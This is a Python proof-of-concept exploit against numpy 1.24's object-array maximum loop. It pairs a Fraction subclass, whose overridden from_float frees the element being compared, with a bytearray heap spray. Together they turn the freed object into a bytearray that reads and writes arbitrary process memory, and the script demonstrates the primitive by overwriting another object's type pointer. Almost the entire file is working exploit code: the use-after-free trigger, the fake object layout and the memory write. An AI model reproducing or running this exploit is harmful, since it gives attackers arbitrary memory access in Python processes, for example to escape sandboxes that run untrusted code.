# source: CPython 3.11 fractions.Fraction._richcmp (a Fraction compared with a float calls self.from_float(other) BY NAME, so a subclass def wins); numpy 1.24 loops.c npy_ObjectMax (PyObject_RichCompareBool on borrowed i1, i2, then Py_INCREF(result))
# family: object-array loop (np.maximum) comparing a Fraction subclass with a float; the subclass overrides the public method from_float with a plain def (not a dunder, not a datetime name) that frees the compared element
# goal: np.maximum hands back the freed Fraction, reclaimed by a bytearray buffer (80-byte block: gc header + managed-dict pre-header + object): type(res) is bytearray, raw memory read and type-pointer write
import fractions
import numpy as np

left = np.empty(1, dtype=object)
right = np.empty(1, dtype=object)
spray = []
calls = []


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


FAKE = bytes(32) + q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0)[:7]


class Price(fractions.Fraction):
    def from_float(self, value):
        calls.append(1)
        left[0] = None
        return fractions.Fraction(1)


left[0] = Price(2)
right[0] = 1.5
out = np.maximum(left, right)
for k in range(400):
    spray.append(bytearray(FAKE))
res = out[0]
print("script code ran inside np.maximum's loop:", len(calls), "calls")
print("np.maximum returned a freed Fraction, now a bytearray:", type(res) is bytearray, len(res))


class Box:
    pass


class Other:
    pass


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
